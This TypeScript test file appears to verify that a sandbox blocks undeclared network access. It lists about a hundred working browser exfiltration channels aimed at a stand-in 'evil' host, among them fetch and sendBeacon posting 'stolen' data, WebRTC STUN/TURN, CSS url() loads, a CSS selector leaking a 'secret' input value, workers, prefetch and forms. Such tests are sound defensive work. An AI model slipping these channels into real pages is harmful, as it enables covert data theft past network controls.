import {
  add,
  addHtml,
  addStyle,
  attempt,
  blobUrl,
  call,
  goUnheard,
  make,
  pause,
  type Attempt,
} from './attempt'

const svg = (body: string) =>
  addHtml(`<svg width="50" height="50" xmlns="http://www.w3.org/2000/svg">${body}</svg>`)
const box = (css: string) => addHtml(`<p class="box" style="width:50px;height:50px;${css}">box</p>`)
const head = (attributes: Record<string, string>) => add('link', attributes, document.head)
const json = (type: string, value: object) => (add('script', { type }).textContent = JSON.stringify(value))
const realm = () => (add('iframe') as HTMLIFrameElement).contentWindow!
const peers = (port: number, url: string, Peer = RTCPeerConnection) => {
  const peer = new Peer({
    iceServers: [{ urls: `${url}:127.0.0.1:${port}`, username: 'a', credential: 'b' }],
  })
  peer.createDataChannel('a')
  return peer.createOffer().then((offer) => peer.setLocalDescription(offer))
}

/** Every way a page can reach a server that was not declared. */
export const network: Attempt[] = [
  attempt('fetch', ({ evil }) => fetch(evil)),
  attempt('fetch without CORS', ({ evil }) =>
    fetch(evil, { mode: 'no-cors', method: 'POST', body: 'stolen' }),
  ),
  attempt('fetch that outlives the page', ({ evil }) => fetch(evil, { keepalive: true, mode: 'no-cors' })),
  attempt('fetch later', ({ evil }) => call(window, 'fetchLater', evil, { activateAfter: 0 })),
  attempt('fetch from a nested frame', ({ evil }) => call(realm(), 'fetch', evil, { mode: 'no-cors' })),
  attempt('XMLHttpRequest', ({ evil }) => {
    const request = new XMLHttpRequest()
    request.open('GET', evil)
    request.send()
  }),
  attempt('synchronous XMLHttpRequest', ({ evil }) => {
    const request = new XMLHttpRequest()
    request.open('GET', evil, false)
    request.send()
  }),
  attempt('sendBeacon', ({ evil }) => void navigator.sendBeacon(evil, 'stolen')),
  attempt('sendBeacon from a nested frame', ({ evil }) => void realm().navigator.sendBeacon(evil, 'stolen')),
  attempt('WebSocket', ({ port }) => new WebSocket(`ws://127.0.0.1:${port}/`)),
  attempt('WebSocketStream', ({ port }) => void make('WebSocketStream', `ws://127.0.0.1:${port}/`)),
  attempt('EventSource', ({ evil }) => void new EventSource(evil)),
  attempt('WebTransport', ({ port }) => void make('WebTransport', `https://127.0.0.1:${port}/`)),
  attempt('WebRTC by STUN', ({ port }) => peers(port, 'stun')),
  attempt('WebRTC by TURN over TCP', ({ port }) => {
    const peer = new RTCPeerConnection({
      iceServers: [{ urls: `turn:127.0.0.1:${port}?transport=tcp`, username: 'a', credential: 'b' }],
    })
    peer.createDataChannel('a')
    return peer.createOffer().then((offer) => peer.setLocalDescription(offer))
  }),
  attempt('WebRTC from a nested frame', ({ port }) =>
    peers(port, 'stun', Reflect.get(realm(), 'RTCPeerConnection')),
  ),
  attempt('WebRTC by a nested script', ({ port }) =>
    add('iframe', {
      srcdoc: `<script>p = new RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:${port}'}]}); p.createDataChannel('a'); p.createOffer().then((o) => p.setLocalDescription(o))</script>`,
    }),
  ),
  attempt('img', ({ evil }) => add('img', { src: evil })),
  attempt('img with srcset', ({ evil }) => add('img', { srcset: `${evil} 1x` })),
  attempt('img that is lazy', ({ evil }) => add('img', { src: evil, loading: 'lazy' })),
  attempt('img with attributionsrc', ({ evil }) => add('img', { src: 'data:,', attributionsrc: evil })),
  attempt('Image that is never shown', ({ evil }) => void (new Image().src = evil)),
  attempt('Image of a nested frame', ({ evil }) => {
    const Other: typeof Image = Reflect.get(realm(), 'Image')
    new Other().src = evil
  }),
  attempt('picture', ({ evil }) => addHtml(`<picture><source srcset="${evil}"><img></picture>`)),
  attempt('input of type image', ({ evil }) => add('input', { type: 'image', src: evil })),
  attempt('body background', ({ evil }) => document.body.setAttribute('background', evil)),
  attempt('video', ({ evil }) => add('video', { src: evil, preload: 'auto' })),
  attempt('video with a source', ({ evil }) =>
    addHtml(`<video preload="auto"><source src="${evil}"></video>`),
  ),
  attempt('video poster', ({ evil }) => add('video', { poster: evil })),
  attempt('audio', ({ evil }) => add('audio', { src: evil, preload: 'auto' })),
  attempt('text track', ({ evil }) => {
    addHtml(`<video src="data:video/mp4,"><track default src="${evil}"></video>`)
    document.querySelector('video')!.textTracks[0]!.mode = 'showing'
  }),
  attempt('object', ({ evil }) => add('object', { data: evil })),
  attempt('embed', ({ evil }) => add('embed', { src: evil })),
  attempt('iframe', ({ evil }) => add('iframe', { src: evil })),
  attempt('iframe with a picture in srcdoc', ({ evil }) => add('iframe', { srcdoc: `<img src="${evil}">` })),
  attempt('iframe of a blob', ({ evil }) =>
    add('iframe', { src: blobUrl(`<img src="${evil}">`, 'text/html') }),
  ),
  attempt('iframe of data', ({ evil }) => add('iframe', { src: `data:text/html,<img src="${evil}">` })),
  attempt('iframe of script', ({ evil }) =>
    add('iframe', { src: `javascript:void(new Image().src="${evil}")` }),
  ),
  attempt('fenced frame', ({ evil }) => {
    const frame = add('fencedframe')
    Reflect.set(frame, 'config', make('FencedFrameConfig', evil))
  }),
  attempt('style of a link', ({ evil }) => head({ rel: 'stylesheet', href: evil })),
  attempt('style import', ({ evil }) => addStyle(`@import "${evil}";`)),
  attempt('style import in a constructed sheet', ({ evil }) => {
    addStyle('p { color: red }')
    document.styleSheets[document.styleSheets.length - 1]!.insertRule(`@import url("${evil}");`, 0)
  }),
  attempt('style background', ({ evil }) => box(`background:url(${evil})`)),
  attempt('style background from a variable', ({ evil }) => box(`--a:url(${evil});background:var(--a)`)),
  attempt('style image-set', ({ evil }) => box(`background-image:image-set("${evil}" 1x)`)),
  attempt('style content', ({ evil }) => addStyle(`body::before { content: url(${evil}) }`)),
  attempt('style list image', ({ evil }) =>
    addHtml(`<ul><li style="list-style-image:url(${evil})">a</li></ul>`),
  ),
  attempt('style border image', ({ evil }) => box(`border:9px solid;border-image:url(${evil}) 3`)),
  attempt('style mask', ({ evil }) => box(`mask-image:url(${evil})`)),
  attempt('style shape', ({ evil }) => box(`float:left;shape-outside:url(${evil})`)),
  attempt('style filter', ({ evil }) => box(`filter:url(${evil}/a.svg#a)`)),
  attempt('style selector that tells what it matched', ({ evil }) => {
    add('input', { value: 'secret' })
    addStyle(`input[value^="s"] { background: url(${evil}/s) }`)
  }),
  attempt('font', ({ evil }) => {
    addStyle(`@font-face { font-family: far; src: url(${evil}) }`)
    box('font-family:far')
  }),
  attempt('FontFace', ({ evil }) => new FontFace('far', `url(${evil})`).load()),
  attempt('svg image', ({ evil }) => svg(`<image href="${evil}" width="50" height="50"/>`)),
  attempt('svg use', ({ evil }) => svg(`<use href="${evil}/a.svg#a"/>`)),
  attempt('svg filter image', ({ evil }) =>
    svg(
      `<filter id="far"><feImage href="${evil}"/></filter><rect width="50" height="50" filter="url(#far)"/>`,
    ),
  ),
  attempt('svg paint', ({ evil }) => svg(`<rect width="50" height="50" fill="url(${evil}/a.svg#a)"/>`)),
  attempt('script', ({ evil }) => add('script', { src: evil })),
  attempt('module script', ({ evil }) => add('script', { src: evil, type: 'module' })),
  attempt('import()', ({ evil }) => import(/* @vite-ignore */ evil)),
  attempt('import by an import map', ({ evil }) => {
    json('importmap', { imports: { far: evil } })
    return import(/* @vite-ignore */ ['f', 'ar'].join(''))
  }),
  attempt('document.write of a script', ({ evil }) => {
    document.open()
    document.write(`<script src="${evil}"></script>`)
  }),
  attempt('Worker', ({ home }) => void new Worker(home)),
  attempt('Worker of a blob that fetches', async ({ evil }) => {
    void new Worker(blobUrl(`fetch("${evil}", { mode: 'no-cors' })`, 'text/javascript'))
    await pause(300)
  }),
  attempt(
    'Worker of data that fetches',
    ({ evil }) => void new Worker(`data:text/javascript,fetch("${evil}", { mode: 'no-cors' })`),
  ),
  attempt(
    'Worker that imports',
    ({ evil }) => void new Worker(blobUrl(`importScripts("${evil}")`, 'text/javascript')),
  ),
  attempt(
    'SharedWorker of a blob that fetches',
    ({ evil }) => void new SharedWorker(blobUrl(`fetch("${evil}", { mode: 'no-cors' })`, 'text/javascript')),
  ),
  attempt('audio worklet', ({ evil }) => new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule(evil)),
  attempt('paint worklet', ({ evil }) => call(Reflect.get(CSS, 'paintWorklet'), 'addModule', evil)),
  attempt('preconnect', ({ evil }) => head({ rel: 'preconnect', href: evil })),
  attempt('preconnect in markup', ({ evil }) => addHtml(`<link rel="preconnect" href="${evil}">`)),
  attempt('preconnect by its list of relations', ({ evil }) => {
    const link = add('link', { href: evil }, document.head) as HTMLLinkElement
    link.relList.add('preconnect')
  }),
  attempt('preconnect with credentials', ({ evil }) =>
    head({ rel: 'preconnect', href: evil, crossorigin: 'use-credentials' }),
  ),
  attempt('preconnect from a nested frame', ({ evil }) =>
    add('iframe', { srcdoc: `<link rel="preconnect" href="${evil}">` }),
  ),
  attempt('prefetch', ({ evil }) => head({ rel: 'prefetch', href: evil })),
  attempt('prefetch of a document', ({ evil }) => head({ rel: 'prefetch', as: 'document', href: evil })),
  attempt('prerender', ({ evil }) => head({ rel: 'prerender', href: evil })),
  attempt('preload as fetch', ({ evil }) => head({ rel: 'preload', as: 'fetch', href: evil })),
  attempt('preload as image', ({ evil }) => head({ rel: 'preload', as: 'image', href: evil })),
  attempt('preload as font', ({ evil }) => head({ rel: 'preload', as: 'font', href: evil, crossorigin: '' })),
  attempt('preload as style', ({ evil }) => head({ rel: 'preload', as: 'style', href: evil })),
  attempt('preload as script', ({ evil }) => head({ rel: 'preload', as: 'script', href: evil })),
  attempt('modulepreload', ({ evil }) => head({ rel: 'modulepreload', href: evil })),
  attempt('speculation rules that prefetch', ({ evil }) =>
    json('speculationrules', { prefetch: [{ source: 'list', urls: [evil], eagerness: 'immediate' }] }),
  ),
  attempt('speculation rules that prerender', ({ evil }) =>
    json('speculationrules', { prerender: [{ source: 'list', urls: [evil], eagerness: 'immediate' }] }),
  ),
  attempt('icon', ({ evil }) => head({ rel: 'icon', href: evil })),
  attempt('manifest', ({ evil }) => head({ rel: 'manifest', href: evil })),
  attempt('ping of a link', ({ evil }) => {
    goUnheard()
    const link = add('a', { href: '#here', ping: evil })
    link.click()
  }),
  attempt('link to a new window', ({ evil }) => {
    goUnheard()
    add('a', { href: evil, target: '_blank' }).click()
  }),
  attempt('report of a policy', ({ evil }) => {
    add(
      'meta',
      {
        'http-equiv': 'Content-Security-Policy',
        content: `img-src 'none'; report-uri ${evil}`,
      },
      document.head,
    )
    add('img', { src: 'https://example.invalid/' })
  }),
  attempt('payment method', ({ evil }) =>
    new PaymentRequest([{ supportedMethods: evil }], {
      total: { label: 'a', amount: { currency: 'EUR', value: '1' } },
    }).canMakePayment(),
  ),
  attempt('base that moves a picture', ({ evil }) => {
    add('base', { href: evil }, document.head)
    add('img', { src: 'picture.png' })
  }),
  attempt('form', ({ evil }) => (add('form', { action: evil }) as HTMLFormElement).submit()),
  attempt('form into a nested frame', ({ evil }) => {
    add('iframe', { name: 'into' })
    const form = add('form', { action: evil, method: 'post', target: 'into' }) as HTMLFormElement
    form.submit()
  }),
  attempt('button with its own action', ({ evil }) => {
    goUnheard()
    addHtml(`<form><button formaction="${evil}">a</button></form>`)
    document.querySelector('button')!.click()
  }),
]
